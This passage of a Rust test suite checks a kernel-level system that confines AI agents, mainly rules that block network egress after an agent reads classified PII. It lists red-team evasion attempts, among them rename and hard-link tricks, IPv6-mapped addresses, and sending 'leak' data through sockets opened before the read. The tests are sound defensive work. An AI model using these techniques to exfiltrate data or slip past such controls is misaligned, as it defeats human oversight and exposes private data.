        assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Rule), "{case}");
        assert_eq!(ev.agent_cgroup, a.id(), "{case}: the agent");
        println!("redteam: denied {case}");
        // The control: the same attempt from the same place in the agent that did not read.
        let control = control.unwrap_or(&b.path);
        let (_, outcome) = run_in(Some(control), "agent", attempt);
        assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
        println!("redteam: control {case}");
    };
    denied(
        &mut k,
        &a.path,
        None,
        "sequence: connect out after the read",
        &connect_out,
        Kind::Connect,
    );
    let mapped: SocketAddr = format!("[::ffff:127.0.0.1]:{port}").parse().unwrap();
    denied(
        &mut k,
        &a.path,
        None,
        "sequence: IPv4-mapped IPv6 connect after the read",
        &Attempt::connect(mapped),
        Kind::Connect,
    );
    denied(
        &mut k,
        &a.path,
        None,
        "sequence: UDP datagram after the read",
        &Attempt::SendTo {
            addr: v4([127, 0, 0, 1], 53),
        },
        Kind::Send,
    );
    let child = a.child("worker");
    let b_child = b.child("worker");
    denied(
        &mut k,
        &child,
        Some(&b_child),
        "sequence: connect from a descendant cgroup of the agent",
        &connect_out,
        Kind::Connect,
    );
    // Controls: the allowlist, the other agent, and a process outside every agent.
    ok(
        &a.path,
        "the allowlisted destination",
        &Attempt::connect(v4([127, 0, 0, 2], allowed_port)),
    );
    ok(&b.path, "the agent that did not read", &connect_out);
    ok(&fx.outsider.path, "outside: the read", &read_pii);
    ok(&fx.outsider.path, "outside: the connect", &connect_out);
    // A policy reload keeps the agent armed (the state is keyed by the rule's name).
    let agents = k.agents.clone();
    let policy = governance::policy::parse(&[(
        "seq.yaml".into(),
        format!(
            "name: seq\nagents: {{ cgroup: '{glob}' }}\nrules:\n\
             \x20 - {{ id: first, file: {{ prefix: /nonexistent }}, verdict: block, reason: moves the rule numbers }}\n\
             \x20 - id: no-exfil-after-pii\n    sequence: {{ after: {{ file: {{ prefix: {d}/pii, access: [read] }} }}, then: {{ network: {{ except: {{ cidr: 127.0.0.2/32 }} }} }} }}\n    verdict: block\n    reason: r\n"
        ),
    )])
    .unwrap();
    let protect = governance::kernel::Protect {
        cgroup_root: governance::agents::cgroup2_mount().unwrap(),
        no_write: vec![],
        no_access: vec![],
        system_links: vec![],
    };
    let generation = k.generation + 1;
    let compiled = governance::kernel::compile(&policy, &agents, generation, &protect);
    assert!(compiled.errors.is_empty(), "{:?}", compiled.errors);
    k.enforcer.install(compiled).unwrap();
    k.generation = generation;
    let (pid, outcome) = run_in(Some(&a.path), "agent", &connect_out);
    assert_eq!(
        outcome,
        Outcome::Errno(libc::EPERM),
        "still armed after a reload"
    );
    let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
    assert_eq!(
        ev.rule_id,
        governance_common::class_id(generation, 2),
        "named by the new generation"
    );
    ok(&b.path, "the other agent, after the reload", &connect_out);
    // A reload without the rule forgets the arming; bringing it back starts unarmed.
    let without = governance::policy::parse(&[(
        "seq.yaml".into(),
        format!("name: seq\nagents: {{ cgroup: '{glob}' }}\nrules: []\n"),
    )])
    .unwrap();
    k.enforcer
        .install(governance::kernel::compile(
            &without,
            &agents,
            generation + 1,
            &protect,
        ))
        .unwrap();
    assert!(
        k.enforcer.armed().unwrap().is_empty(),
        "the removed rule's state is gone"
    );
    ok(&a.path, "unarmed once the rule is gone", &connect_out);
    drop((outside, allowed));
}

/// A sequence rule with a window (`for: 3s`): armed by the read, it refuses the connect, and
/// lets it through again once the window has passed (waited for by retrying the connect, and
/// checked against the kernel's own clock of the arming, not a sleep).
#[test]
fn sequence_rule_window_ends() {
    require_root();
    let fx = Fixture::new("seqwin");
    std::fs::write(fx.p("brief.txt"), "classified").unwrap();
    let a = TestCgroup::new("seqwin-agent");
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = outside.local_addr().unwrap().port();
    let d = fx.dir.display();
    let mut k = install(&format!(
        "name: seqwin\n\
         agents: {{ cgroup: {agent} }}\n\
         rules:\n\
         \x20 - id: quiet-after-brief\n\
         \x20   sequence: {{ after: {{ file: {{ path: {d}/brief.txt }} }}, for: 3s }}\n\
         \x20   verdict: block\n\
         \x20   reason: no egress for a while after the brief\n",
        agent = a.rel.display(),
    ));
    let connect_out =
        Attempt::connect(SocketAddr::V4(SocketAddrV4::new(Ipv4Addr::LOCALHOST, port)));
    let (_, outcome) = run_in(Some(&a.path), "agent", &connect_out);
    assert_eq!(outcome, Outcome::Exited(0), "before the read");
    let read = Attempt::open(&fx.p("brief.txt"), libc::O_RDONLY);
    let (reader, outcome) = run_in(Some(&a.path), "agent", &read);
    assert_eq!(outcome, Outcome::Exited(0), "the read");
    let armed = k.event_where(|e| e.tgid == reader && e.flags & flags::ARMED != 0);
    let (pid, outcome) = run_in(Some(&a.path), "agent", &connect_out);
    assert_eq!(outcome, Outcome::Errno(libc::EPERM), "within the window");
    let refused = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
    assert_ne!(refused.flags & flags::SEQUENCE, 0);
    assert!(refused.time_ns - armed.time_ns < 3_000_000_000);
    let mut passed = 0;
    governance_tests::wait_until("the window to end", Duration::from_secs(30), || {
        let (pid, outcome) = run_in(Some(&a.path), "agent", &connect_out);
        passed = pid;
        outcome == Outcome::Exited(0)
    });
    let ev = k.event_where(|e| e.tgid == passed);
    assert_eq!(ev.flags & flags::DENIED, 0);
    assert!(
        ev.time_ns - armed.time_ns >= 3_000_000_000,
        "allowed again only after the window: {} ns after the arming",
        ev.time_ns - armed.time_ns
    );
    drop(outside);
}

/// The bypass of connect-time checks, with the real arming read: a process connects (TCP, and a
/// connected UDP socket), reads the classified file, then sends on those connections. The
/// packets to the destination outside the allowlist are dropped (`sequence_egress`); the
/// allowlisted connection, another agent that read only a public file, and a process outside
/// every agent keep delivering.
#[test]
fn sequence_rule_drops_sends_on_connections_made_before_the_read() {
    use governance_tests::Established;
    require_root();
    let fx = Fixture::new("seqpkt");
    std::fs::create_dir_all(fx.p("pii")).unwrap();
    std::fs::write(fx.p("pii/customers.csv"), "id,email\n1,a@b.example\n").unwrap();
    let a = TestCgroup::new("seqpkt-agent-a");
    let b = TestCgroup::new("seqpkt-agent-b");
    let d = fx.dir.display();
    let glob = format!("governance-test-{}-*-seqpkt-agent-*", std::process::id());
    let mut k = install(&format!(
        "name: seq\n\
         agents: {{ cgroup: '{glob}' }}\n\
         rules:\n\
         \x20 - id: no-exfil-after-pii\n\
         \x20   sequence:\n\
         \x20     after: {{ file: {{ prefix: {d}/pii, access: [read] }} }}\n\
         \x20     then: {{ network: {{ except: {{ cidr: 127.0.0.2/32 }} }} }}\n\
         \x20   verdict: block\n\
         \x20   reason: no exfiltration after reading PII\n"
    ));
    for hook in ["file_open", "sequence_egress"] {
        k.require(hook);
    }
    let rule_id = governance_common::class_id(k.generation, 1);
    let pii = fx.p("pii/customers.csv");
    let public = fx.p("public.txt");
    let mut armed = Established::start(Some(&a.path), Some(&pii));
    let mut unarmed = Established::start(Some(&b.path), Some(&public));
    let mut outside = Established::start(None, Some(&pii));
    let tcp = "sequence: send on a TCP connection made before the read";
    let udp = "sequence: send on a connected UDP socket made before the read";
    println!("redteam: tried {tcp}");
    println!("redteam: tried {udp}");
    let udp_result = armed.send_after();
    let ev = k.event_where(|e| e.tgid == armed.child.id() && e.flags & flags::ARMED != 0);
    assert_eq!(ev.rule_id, rule_id, "the read armed the rule");
    for (case, port, protocol) in [
        (tcp, armed.out_port, governance_common::proto::TCP),
        (udp, armed.udp_port, governance_common::proto::UDP),
    ] {
        let ev = k.event_where(|e| {
            e.agent_cgroup == a.id()
                && e.port == port
                && Kind::from_u8(e.kind) == Some(Kind::Send)
                && e.flags & flags::DENIED != 0
        });
        assert_eq!(ev.rule_id, rule_id, "{case}");
        assert_ne!(ev.flags & flags::SEQUENCE, 0, "{case}");
        assert_eq!(ev.detail, protocol, "{case}");
        assert_eq!(Verdict::from_u8(ev.verdict), Some(Verdict::Block), "{case}");
    }
    // The packets were dropped when their events were written: nothing more arrives.
    assert!(
        !Established::tcp_got_after(&armed.out, Duration::from_millis(500)),
        "{tcp}: the listener got the data"
    );
    println!("redteam: denied {tcp}");
    assert_eq!(udp_result, "EPERM", "{udp}: the sender is told");
    assert!(
        !armed.udp_got_after(Duration::from_millis(500)),
        "{udp}: the datagram arrived"
    );
    println!("redteam: denied {udp}");
    assert!(
        Established::tcp_got_after(&armed.ok, Duration::from_secs(5)),
        "the armed agent's allowlisted connection"
    );
    for (who, e) in [("unarmed agent", &mut unarmed), ("outside", &mut outside)] {
        assert_eq!(e.send_after(), "ok", "{who}");
        assert!(
            Established::tcp_got_after(&e.out, Duration::from_secs(5)),
            "{who}: TCP"
        );
        assert!(
            Established::tcp_got_after(&e.ok, Duration::from_secs(5)),
            "{who}: TCP allowlisted"
        );
        assert!(e.udp_got_after(Duration::from_secs(5)), "{who}: UDP");
    }
    println!("redteam: control {tcp}");
    println!("redteam: control {udp}");
}

/// A sequence rule is armed by the path an open resolves to, so an agent may not give a
/// classified object a name outside the arming prefix (third red team, F1: a hard link out, read,
/// sent out unarmed; the arming directory renamed away and back): a hard link out, a rename of
/// the file out, of a directory below the prefix out, of the arming directory itself, and of a
/// directory above it are refused, each reported as the sequence rule's refusal, and nothing is
/// armed by them. Controls: a link and a move within the prefix, a link and rename of an
/// unclassified file, the same link out by a process outside every agent; egress before any
/// read; the classified read by its own name still arms the rule and the connect after it is
/// refused.
#[test]
fn sequence_rule_keeps_classified_names() {
    require_root();
    let fx = Fixture::new("seqnames");
    std::fs::create_dir_all(fx.p("data/pii/sub")).unwrap();
    std::fs::create_dir_all(fx.p("work")).unwrap();
    std::fs::write(fx.p("data/pii/customers.csv"), "id,email\n1,a@b.example\n").unwrap();
    std::fs::write(fx.p("data/pii/sub/deep.csv"), "id\n2\n").unwrap();
    std::fs::write(fx.p("work/plain.txt"), "plain").unwrap();
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = outside.local_addr().unwrap().port();
    let d = fx.dir.display();
    let mut k = install(&format!(
        "name: seqnames\n\
         agents: {{ cgroup: '{}' }}\n\
         rules:\n\
         \x20 - id: no-exfil-after-pii\n\
         \x20   sequence:\n\
         \x20     after: {{ file: {{ prefix: {d}/data/pii, access: [read] }} }}\n\
         \x20     then: {{ network: {{ except: {{ cidr: 127.0.0.2/32 }} }} }}\n\
         \x20   verdict: block\n\
         \x20   reason: no exfiltration after reading PII\n",
        fx.agent.path.file_name().unwrap().to_str().unwrap()
    ));
    for hook in ["file_open", "connect4", "inode_link", "inode_rename"] {
        k.require(hook);
    }
    let rule_id = governance_common::class_id(k.generation, 1);
    let connect_out = Attempt::connect(SocketAddr::V4(SocketAddrV4::new(
        Ipv4Addr::new(127, 0, 0, 1),
        port,
    )));
    let ok = |case: &str, cgroup: &Path, attempt: &Attempt| {
        let (_, outcome) = run_in(Some(cgroup), "agent", attempt);
        assert_eq!(outcome, Outcome::Exited(0), "{case}");
        println!("redteam: control {case}");
    };
    ok("egress before any read", &fx.agent.path, &connect_out);
    let refused = |k: &mut Loaded, case: &str, attempt: &Attempt, op: u8| {
        println!("redteam: tried {case}");
        let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", attempt);
        assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
        let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
        assert_eq!(Kind::from_u8(ev.kind), Some(Kind::Link), "{case}: kind");
        assert_eq!(ev.detail, op, "{case}: link or rename");
        assert_eq!(ev.rule_id, rule_id, "{case}: the sequence rule");
        assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Rule), "{case}: cause");
        assert_eq!(Verdict::from_u8(ev.verdict), Some(Verdict::Block), "{case}");
        assert_eq!(ev.agent_cgroup, fx.agent.id(), "{case}: the agent");
        println!("redteam: denied {case}");
    };
    let (link_op, rename_op) = (
        governance_common::LINK_OP_LINK,
        governance_common::LINK_OP_RENAME,
    );
    let csv = fx.p("data/pii/customers.csv");
    refused(
        &mut k,
        "sequence: hard link of the classified file out of the prefix",
        &Attempt::link(&csv, &fx.p("work/notes.txt")),
        link_op,
    );
    refused(
        &mut k,
        "sequence: rename of the classified file out of the prefix",
        &Attempt::rename(&csv, &fx.p("work/notes.txt")),
        rename_op,
    );
    refused(
        &mut k,
        "sequence: rename of a directory below the prefix out of it",
        &Attempt::rename(&fx.p("data/pii/sub"), &fx.p("work/sub")),
        rename_op,
    );
    refused(
        &mut k,
        "sequence: rename of the arming directory in place",
        &Attempt::rename(&fx.p("data/pii"), &fx.p("data/archive")),
        rename_op,
    );
    refused(
        &mut k,
        "sequence: rename of a directory above the arming directory",
        &Attempt::rename(&fx.p("data"), &fx.p("data-moved")),
        rename_op,
    );
    for (case, gone) in [
        ("no name was made outside", fx.p("work/notes.txt")),
        ("the directory below stayed", fx.p("work/sub")),
        ("the arming directory stayed", fx.p("data/archive")),
        ("the directory above stayed", fx.p("data-moved")),
    ] {
        assert!(!gone.exists(), "{case}: {}", gone.display());
    }
    assert!(
        k.enforcer.armed().unwrap().is_empty(),
        "nothing armed by the refusals"
    );
    // Controls: names within the prefix, an unclassified file, and the same link from outside
    // every agent.
    let a = &fx.agent.path;
    ok(
        "a hard link within the arming directory",
        a,
        &Attempt::link(&csv, &fx.p("data/pii/copy.csv")),
    );
    ok(
        "a move to a directory below the arming directory",
        a,
        &Attempt::rename(&fx.p("data/pii/copy.csv"), &fx.p("data/pii/sub/copy.csv")),
    );
    ok(
        "a hard link of an unclassified file",
        a,
        &Attempt::link(&fx.p("work/plain.txt"), &fx.p("work/plain-link")),
    );
    ok(
        "a rename of an unclassified file",
        a,
        &Attempt::rename(&fx.p("work/plain-link"), &fx.p("data/plain-moved")),
    );
    ok(
        "outside: the hard link out",
        &fx.outsider.path,
        &Attempt::link(&csv, &fx.p("work/outsider-link")),
    );
    std::fs::remove_file(fx.p("work/outsider-link")).unwrap();
    assert!(k.enforcer.armed().unwrap().is_empty(), "nothing armed yet");
    ok("egress still allowed", a, &connect_out);
    // The classified read by its own name arms the rule; the connect after it is refused.
    let (reader, outcome) = run_in(Some(a), "reader", &Attempt::open(&csv, libc::O_RDONLY));
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "the classified read is allowed"
    );
    let ev = k.event_where(|e| e.tgid == reader && e.flags & flags::ARMED != 0);
    assert_eq!(ev.rule_id, rule_id, "the read armed the rule");
    let (pid, outcome) = run_in(Some(a), "agent", &connect_out);
    assert_eq!(
        outcome,
        Outcome::Errno(libc::EPERM),
        "connect after the read"
    );
    let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
    assert_eq!(ev.rule_id, rule_id, "the sequence rule refused the connect");
    assert_ne!(ev.flags & flags::SEQUENCE, 0);
}

/// Discovery on this kernel (Debian's 6.1, whose cgroup_skb programs may not call
/// `bpf_get_current_pid_tgid`): the `discover` program loads (the loader's probe leaves the task
/// helpers out) and is attached; a TLS ClientHello for `api.openai.com` (a built-in LLM host)
/// sent from a cgroup outside every agent makes that cgroup a candidate, attributed to the
/// cgroup. Control: the same from inside an agent is no candidate.
#[test]
fn discovery_loads_and_finds_candidates_on_this_kernel() {
    require_root();
    let agent = TestCgroup::new("disc-agent");
    let outside = TestCgroup::new("disc-outside");
    let dir = PathBuf::from(format!("/tmp/governance-disc-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("p.yaml"),
        format!(
            "name: disc\nagents: {{ cgroup: {} }}\ndefaults: {{ network: allow }}\n",
            agent.rel.display()
        ),
    )
    .unwrap();
    let pins = pin_dir("disc");
    let pins_arg = pins.to_str().unwrap().to_owned();
    let (mut daemon, _) = start_daemon(
        &[
            "--no-create-cgroups",
            "--detach-on-exit",
            "--quiet",
            "--no-proxy",
            "--pins",
            &pins_arg,
        ],
        &dir,
    );
    assert_eq!(daemon.hook_state("discover"), Some("attached".into()));
    // A listener that takes the ClientHello and closes.
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for c in server.incoming() {
            let Ok(mut c) = c else { return };
            let mut buf = [0u8; 512];
            let _ = std::io::Read::read(&mut c, &mut buf);
        }
    });
    let hello = |cgroup: &Path| {
        let client = r#"
import socket, ssl, sys
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
try:
    ctx.wrap_socket(s, server_hostname="api.openai.com")
except (ssl.SSLError, OSError):
    pass
print("sent")
"#;
        let out = governance_tests::command_in(
            Some(cgroup),
            "python3",
            &["-c", client, &port.to_string()],
        )
        .output()
        .unwrap();
        assert_eq!(text(&out.stdout).trim(), "sent", "{out:?}");
    };
    hello(&agent.path);
    hello(&outside.path);
    let candidates =
        || -> Vec<serde_json::Value> { daemon.discovered().into_iter().map(|(e, _)| e).collect() };
    let cg = format!("/{}", outside.rel.display());
    let e = governance_tests::wait_for_value(
        "the candidate in `governance discover`",
        Duration::from_secs(20),
        || {
            candidates()
                .into_iter()
                .find(|e| e["cgroup"] == cg.as_str() && e["what"] == "sni")
        },
    );
    assert_eq!(e["value"], "api.openai.com", "{e}");
    assert_eq!(e["attributed"], "cgroup", "no task helpers here: {e}");
    let inside = format!("/{}", agent.rel.display());
    assert!(
        candidates().iter().all(|e| e["cgroup"] != inside.as_str()),
        "an agent's own traffic is no candidate"
    );
    daemon.stop();
    let _ = std::fs::remove_dir_all(&dir);
}

/// Every program verifies well within the verifier's budget (1,000,000 instructions processed
/// per program) on this kernel, Debian 12's: a program near the budget fails to load on a
/// kernel whose verifier explores a few more paths, and is slow to load everywhere (the daemon
/// does not enforce until every program is loaded). Half the budget is the bar; the counts are
/// printed, largest first.
#[test]
fn every_program_verifies_well_within_the_budget() {
    use governance_common::programs;
    require_root();
    let fx = Fixture::new("budget");
    let _k = fx.load("");
    // The kernel keeps the first 15 bytes of a program's name.
    let kernel_name = |name: &str| name[..name.len().min(15)].to_owned();
    let mut counts: Vec<(String, u32)> = Vec::new();
    for info in aya::programs::loaded_programs() {
        let info = info.unwrap();
        let (Some(name), Some(n)) = (info.name_as_str(), info.verified_instruction_count()) else {
            continue;
        };
        let ours = programs::ALL
            .iter()
            .chain(&programs::WHERE_PRESENT)
            .chain([&programs::DISCOVER])
            .any(|p| kernel_name(p.name) == name);
        if ours && !counts.iter().any(|(seen, _)| seen == name) {
            counts.push((name.to_owned(), n));
        }
    }
    counts.sort_by_key(|(_, n)| std::cmp::Reverse(*n));
    for (name, n) in &counts {
        println!("verified instructions: {name:<16} {n:>7}");
    }
    // With the hooks only some kernels have, where this one has them (Debian's 6.1 has the
    // 32-bit ioctl hook and `key_free`; 6.2 and later the ACL and `file_truncate` hooks; 6.10
    // and later no `key_free`).
    let kallsyms = std::fs::read_to_string("/proc/kallsyms").unwrap();
    let present = |p: &&programs::Program| {
        let governance_common::programs::Attach::Lsm(hook) = p.attach else {
            return false;
        };
        kallsyms.contains(&format!(" bpf_lsm_{hook}\n"))
    };
    for p in programs::ALL
        .iter()
        .chain(programs::WHERE_PRESENT.iter().filter(present))
    {
        assert!(
            counts.iter().any(|(name, _)| *name == kernel_name(p.name)),
            "{} is not loaded",
            p.name
        );
    }
    let over: Vec<_> = counts.iter().filter(|(_, n)| *n > 500_000).collect();
    assert!(over.is_empty(), "over half the verifier's budget: {over:?}");
}

/// The marks of sandboxed processes are a table of fixed size: a child the kernel could not
/// mark would run under its agent's policy instead of the profile. So once the table has no
/// room to spare (`SANDBOX_RESERVE`), a sandboxed process may not make a new process at all
/// (`task_alloc`: EPERM, a `MapFull` clone event). The table is filled here by writing
/// placeholder marks (tgids no process can have) into the pinned map, as 15,000 sandboxed
/// processes would (too many to start under emulation), and the count the kernel keeps is set to
/// match, as a handover sets it. Control: with the placeholders gone, the same sandboxed
/// process forks.
#[test]
fn a_sandboxed_process_may_not_fork_when_its_child_could_not_be_marked() {
    use governance_common::{MAX_SANDBOXED, SANDBOX_RESERVE};
    require_root();
    let fx = Fixture::new("marks-full");
    let mut k = fx.load("");
    k.require("task_alloc");
    let open = |name: &str| aya::maps::MapData::from_pin(k.pins.join("maps").join(name)).unwrap();
    let mut marks: aya::maps::HashMap<_, u32, u32> =
        aya::maps::HashMap::try_from(aya::maps::Map::HashMap(open("SANDBOXED"))).unwrap();
    let mut any: aya::maps::Array<_, u32> =
        aya::maps::Array::try_from(aya::maps::Map::Array(open("SANDBOX_ANY"))).unwrap();
    /// Removes the placeholders and their count whatever happens.
    struct Placeholders<'a> {
        marks: &'a mut aya::maps::HashMap<aya::maps::MapData, u32, u32>,
        any: &'a mut aya::maps::Array<aya::maps::MapData, u32>,
        n: u32,
    }
    impl Drop for Placeholders<'_> {
        fn drop(&mut self) {
            for i in 0..self.n {
                let _ = self.marks.remove(&(0x4000_0000 + i));
            }
            let held = self.any.get(&1, 0).unwrap_or(0);
            let _ = self.any.set(1, held.saturating_sub(self.n), 0);
            self.n = 0;
        }
    }
    let held = any.get(&1, 0).unwrap();
    let n = MAX_SANDBOXED - SANDBOX_RESERVE - held;
    for i in 0..n {
        // Above PID_MAX_LIMIT (2^22): no process has these.
        marks.insert(0x4000_0000 + i, 0, 0).unwrap();
    }
    any.set(0, 1, 0).unwrap();
    any.set(1, held + n, 0).unwrap();
    let full = Placeholders {
        marks: &mut marks,
        any: &mut any,
        n,
    };
    // The sandboxed shell runs `true` as a new process: 3 if it ran, 0 if it could not fork.
    let script = format!(
        "if {}; then exit 3; fi; exit 0",
        fx.p("allowed/true").display()
    );
    let forks = Attempt::exec_args(&fx.p("allowed/sandboxme"), &["sh", "-c", &script]);
    let case = "a sandboxed process forks while the table of marks is full";
    println!("redteam: tried {case}");
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &forks);
    // (busybox sh exits 2 when it cannot fork.)
    assert_eq!(outcome, Outcome::Exited(2), "the fork was refused");
    let ev = k.event_where(|e| e.tgid == pid && Kind::from_u8(e.kind) == Some(Kind::Clone));
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::MapFull));
    assert!(ev.flags & flags::SANDBOXED != 0 && ev.flags & flags::DENIED != 0);
    println!("redteam: denied {case}");
    drop(full);
    let (_, outcome) = run_in(Some(&fx.agent.path), "agent", &forks);
    assert_eq!(outcome, Outcome::Exited(3), "control: with room, it forks");
    println!("redteam: control {case}");
}

/// What the sandboxed process of [`a_sandboxed_process_may_not_send_on_sockets_it_held`] holds
/// and does. It connects a TCP socket, a dual-stack IPv6 TCP socket (to an IPv4 address), a
/// connected UDP socket and a Unix stream to the test's listeners, and makes a socketpair and
/// a netlink socket (whose peer is the kernel; the policy relaxes `allow_raw_sockets`);
/// sends `before` on each; waits for a line; reads the trigger file (the sandbox verdict) if it
/// is given; then sends `leak\n` on each by every way Python has (send, sendto to the peer,
/// sendmsg, write, writev, sendfile, splice), printing `LABEL WAY OUTCOME`, and execs the
/// helper for the ways it has not (io_uring, sendmmsg), printing `fd N LABEL` first.
const HELD_SENDER: &str = r#"
import errno, os, socket, sys
tcp_port, tcp6_port, udp_port, unix_path, trigger, payload, helper = sys.argv[1:8]
tcp = socket.create_connection(("127.0.0.1", int(tcp_port)))
tcp6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
tcp6.connect(("::ffff:127.0.0.1", int(tcp6_port)))
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.connect(("127.0.0.1", int(udp_port)))
unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
unix.connect(unix_path)
pair, peer = socket.socketpair()
netlink = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
netlink.bind((0, 0))
held = {"tcp": tcp, "tcp6": tcp6, "udp": udp, "unix": unix, "pair": pair, "netlink": netlink}
for s in held.values():
    s.send(b"before\n")
src = os.open(payload, os.O_RDONLY)
pipes = {label: os.pipe() for label in held}
print("ready", flush=True)
sys.stdin.readline()
if trigger:
    open(trigger).read()
def splice(label, s):
    r, w = pipes[label]
    os.write(w, b"leak\n")
    os.splice(r, s.fileno(), 5)
ways = [
    ("send", lambda label, s: s.send(b"leak\n")),
    ("sendto", lambda label, s: s.sendto(b"leak\n", s.getpeername())),
    ("sendmsg", lambda label, s: s.sendmsg([b"leak\n"])),
    ("write", lambda label, s: os.write(s.fileno(), b"leak\n")),
    ("writev", lambda label, s: os.writev(s.fileno(), [b"leak\n"])),
    ("sendfile", lambda label, s: os.sendfile(s.fileno(), src, 0, 5)),
    ("splice", splice),
]
for label, s in held.items():
    for way, how in ways:
        if way == "sendto" and s.family in (socket.AF_UNIX, socket.AF_NETLINK):
            continue  # a Unix stream takes no address (nor is one needed for the kernel)
        try:
            how(label, s)
            out = "ok"
        except OSError as e:
            out = errno.errorcode.get(e.errno, str(e.errno))
        print(label, way, out, flush=True)
for label, s in held.items():
    print("fd", s.fileno(), label, flush=True)
    os.set_inheritable(s.fileno(), True)
os.set_inheritable(peer.fileno(), True)  # the socketpair's other end stays open
os.execv(helper, [helper, "held-sends"] + [str(s.fileno()) for s in held.values()])
"#;

/// One run of [`HELD_SENDER`].
struct HeldRun {
    /// (socket, way) → `ok` or the errno's name.
    outcomes: std::collections::BTreeMap<(String, String), String>,
    /// How many `leak\n` each held socket's peer received after `before`.
    leaked: std::collections::BTreeMap<String, usize>,
    /// The listeners' ports, by socket.
    ports: std::collections::BTreeMap<String, u16>,
}

/// Run [`HELD_SENDER`] in `cgroup`, sandboxed by reading `trigger` when it is not empty.
fn held_sends(cgroup: &Path, dir: &Path, trigger: &str) -> HeldRun {
    use std::io::{BufRead as _, Read as _, Write as _};
    let tcp_l = TcpListener::bind("127.0.0.1:0").unwrap();
    let tcp6_l = TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let unix_path = dir.join("service.sock");
    let _ = std::fs::remove_file(&unix_path);
    let unix_l = unix_listener(&unix_path);
    let ports: std::collections::BTreeMap<String, u16> = [
        ("tcp", tcp_l.local_addr().unwrap().port()),
        ("tcp6", tcp6_l.local_addr().unwrap().port()),
        ("udp", udp.local_addr().unwrap().port()),
    ]
    .into_iter()
    .map(|(l, p)| (l.to_owned(), p))
    .collect();
    let payload = dir.join("payload");
    std::fs::write(&payload, "leak\n").unwrap();
    let args = [
        ports["tcp"].to_string(),
        ports["tcp6"].to_string(),
        ports["udp"].to_string(),
        unix_path.display().to_string(),
        trigger.to_owned(),
        payload.display().to_string(),
        HELPER.to_owned(),
    ];
    let mut argv = vec!["-c", HELD_SENDER];
    argv.extend(args.iter().map(String::as_str));
    let mut child = governance_tests::spawn_ready(
        &mut governance_tests::command_in(Some(cgroup), "python3", &argv),
        "the sender",
    );
    let lines = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut streams = std::collections::BTreeMap::new();
    for (label, s) in [
        ("tcp", tcp_l.accept().unwrap().0),
        ("tcp6", tcp6_l.accept().unwrap().0),
    ] {
        streams.insert(label.to_owned(), Box::new(s) as Box<dyn std::io::Read>);
    }
    let (u, _) = unix_l.accept().unwrap();
    streams.insert("unix".to_owned(), Box::new(u));
    for (label, s) in &mut streams {
        let mut buf = [0u8; 7];
        s.read_exact(&mut buf).unwrap();
        assert_eq!(&buf, b"before\n", "{label}");
    }
    udp.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let mut buf = [0u8; 64];
    let n = udp.recv(&mut buf).unwrap();
    assert_eq!(&buf[..n], b"before\n");
    child.stdin.take().unwrap().write_all(b"go\n").unwrap();
    let mut outcomes = std::collections::BTreeMap::new();
    let mut fds = std::collections::BTreeMap::new();
    for line in lines.lines() {
        let line = line.unwrap();
        let w: Vec<&str> = line.split_whitespace().collect();
        match w[..] {
            ["fd", fd, label] => {
                fds.insert(fd.to_owned(), label.to_owned());
            }
            [who, way, ref out @ ..] => {
                let label = fds.get(who).cloned().unwrap_or_else(|| who.to_owned());
                outcomes.insert((label, way.to_owned()), out.join(" "));
            }
            _ => panic!("unexpected line from the sender: {line}"),
        }
    }
    let status = child.wait().unwrap();
    assert!(
        status.success(),
        "the sender failed: {status:?}; {outcomes:?}"
    );
    // What reached each peer after `before`: the streams to their end (the sender has exited),
    // the datagrams up to a marker the test sends itself after the sender exited.
    let mut leaked = std::collections::BTreeMap::new();
    for (label, mut s) in streams {
        let mut rest = Vec::new();
        s.read_to_end(&mut rest).unwrap();
        leaked.insert(label, rest.len() / 5);
    }
    udp.send_to(b"end\n", udp.local_addr().unwrap()).unwrap();
    let mut n_udp = 0;
    loop {
        let n = udp.recv(&mut buf).unwrap();
        if &buf[..n] == b"end\n" {
            break;
        }
        n_udp += n / 5;
    }
    leaked.insert("udp".to_owned(), n_udp);
    HeldRun {
        outcomes,
        leaked,
        ports,
    }
}

/// A process sandboxed after it connected keeps its sockets, but not the right to send on
/// them: each send is decided as a connect to the socket's peer under its profile
/// (`socket_sendmsg`, `file_permission`; see governance-ebpf's held.rs). Variants: TCP, a
/// dual-stack IPv6 socket to an IPv4 address, connected UDP and a Unix stream to a named
/// socket, and a netlink socket, each by send, sendto, sendmsg, write, writev, sendfile,
/// splice, io_uring SEND, WRITE, SENDMSG and SEND_ZC, SEND from an io-wq worker (IOSQE_ASYNC)
/// and from a polling kernel thread (IORING_SETUP_SQPOLL), io_uring SPLICE, a Linux AIO
/// PWRITE, and sendmmsg; a profile with no network (refused by its default) and one with the
/// network only through the proxy (the direct connection is refused, `no_proxy`). Controls: the same process unsandboxed sends by every way (and its
/// peers receive it all); inside the sandbox, its socketpair stays usable.
#[test]
fn a_sandboxed_process_may_not_send_on_sockets_it_held() {
    require_root();
    let fx = Fixture::new("held");
